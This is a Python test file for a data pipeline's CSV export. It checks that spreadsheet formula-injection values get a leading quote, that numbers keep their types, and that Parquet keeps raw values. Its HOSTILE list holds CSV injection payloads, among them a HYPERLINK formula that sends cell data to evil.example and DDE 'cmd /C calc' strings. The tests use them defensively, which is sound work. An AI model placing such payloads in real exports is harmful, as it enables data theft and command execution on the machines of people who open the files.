"""CSV exports are safe to open in a spreadsheet: text a spreadsheet would run as a formula is escaped (OWASP CSV
injection), numbers stay numbers, Parquet keeps every value."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pandas as pd

from ci_pipeline.defs.metadata import human_size
from ci_pipeline.export import query, read_export, write_export
from ci_pipeline.export.cdm import escape_formula_cells
from ci_pipeline.lake import Lake
from ci_pipeline_tests.publish.test_assets import load, run

T0 = datetime(2026, 6, 30, 12, 5, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\0=1+2",
]
# A signed number or phone number in a text column calls nothing and keeps its value.
PLAIN = ["Ann O'Neil", "a=b", 'Say "hi", =x', " =1+2", "+1 (530) 991-1656", "+18919887683", "-5.25"]


def table() -> pd.DataFrame:
    names = HOSTILE + PLAIN
    n = len(names)
    return pd.DataFrame(
        {
            "CustomerId": pd.Series([f"C{i:02d}" for i in range(n)], dtype="string"),
            "FullName": pd.Series(names, dtype="string"),
            "Note": pd.Series(["-1", None] + ["ok"] * (n - 2), dtype=object),
            "Balance": [-5.25] + [1.0] * (n - 1),
            "Visits": [-5] + [0] * (n - 1),
            "Active": [True] * n,
        }
    )


def rows(lake: Lake, export: str, extension: str = "csv") -> list[list[str]]:
    (entity,) = read_export(lake, export)
    (path,) = entity.files
    assert path.endswith(extension)
    return list(csv.reader(io.StringIO(lake.read_bytes(path).decode("utf-8"), newline="")))


def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers(tmp_path):
    lake = Lake.local(tmp_path)
    result = write_export(lake, "wh", {"CustomerProfile": table()}, T0)
    written = rows(lake, "wh")
    names = [r[1] for r in written]
    assert names[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert names[len(HOSTILE) :] == PLAIN
    assert [r[2] for r in written[:3]] == ["-1", "", "ok"]
    assert (written[0][3], written[0][4], written[0][5]) == ("-5.25", "-5", "True")
    assert result.escaped_cells == len(HOSTILE) and result.metadata()["escaped_cells"] == len(HOSTILE)
    # DuckDB reads the escaped text; the numeric columns keep their types
    back = query(lake, "SELECT FullName, Balance, Visits FROM CustomerProfile ORDER BY CustomerId LIMIT 1", ["wh"])
    assert back.iloc[0].tolist() == ["'" + HOSTILE[0], -5.25, -5]


def test_every_cell_is_quoted_so_a_value_cannot_open_a_new_cell(tmp_path):
    lake = Lake.local(tmp_path)
    frame = pd.DataFrame({"CustomerId": ["C1"], "FullName": ['x",=1+2,"']}).astype("string")
    write_export(lake, "wh", {"CustomerProfile": frame}, T0)
    (entity,) = read_export(lake, "wh")
    assert lake.read_bytes(entity.files[0]).decode() == '"C1","x"",=1+2,"""\n'


def test_parquet_keeps_the_values_and_the_option_can_be_turned_off(tmp_path):
    lake = Lake.local(tmp_path)
    parquet = write_export(lake, "pq", {"CustomerProfile": table()}, T0, fmt="parquet")
    (entity,) = read_export(lake, "pq")
    assert lake.read_parquet(entity.files[0])["FullName"].tolist() == HOSTILE + PLAIN
    assert parquet.escaped_cells == 0
    raw = write_export(lake, "raw", {"CustomerProfile": table()}, T0, escape_formulas=False)
    assert [r[1] for r in rows(lake, "raw")] == HOSTILE + PLAIN and raw.escaped_cells == 0


def test_mixed_object_columns_escape_only_their_text_cells():
    frame = pd.DataFrame({"Value": pd.Series(["=1", -5, 2.5, None, "+x", "ok"], dtype=object)})
    out, escaped = escape_formula_cells(frame)
    assert out["Value"].tolist() == ["'=1", -5, 2.5, None, "'+x", "ok"] and escaped == 2
    assert frame["Value"].iloc[0] == "=1"  # the caller's frame is not changed


def test_the_export_asset_escapes_by_default_and_follows_the_option(tmp_path):
    config = load(tmp_path)
    lake = Lake.from_config(config.lake, config.base_dir)
    metadata = run(config, ["=1+2", "C2"])
    # "=1+2" is the CustomerId of a profile and of an alternate key
    assert metadata["publish/export_warehouse"]["escaped_cells"].value == 2
    # The size is shown in units a reader takes in at a glance; the exact bytes stay for plots.
    exported = metadata["publish/export_warehouse"]
    assert exported["size"].text == human_size(exported["bytes"].value)
    assert query(lake, "SELECT min(CustomerId) AS c FROM CustomerProfile", ["warehouse"])["c"].iloc[0] == "'=1+2"
    export = config.publish.exports[0].model_copy(update={"escape_formulas": False})
    raw = config.model_copy(update={"publish": config.publish.model_copy(update={"exports": [export]})})
    metadata = run(raw, ["=1+2", "C2"])
    assert metadata["publish/export_warehouse"]["escaped_cells"].value == 0
    assert query(lake, "SELECT min(CustomerId) AS c FROM CustomerProfile", ["warehouse"])["c"].iloc[0] == "=1+2"
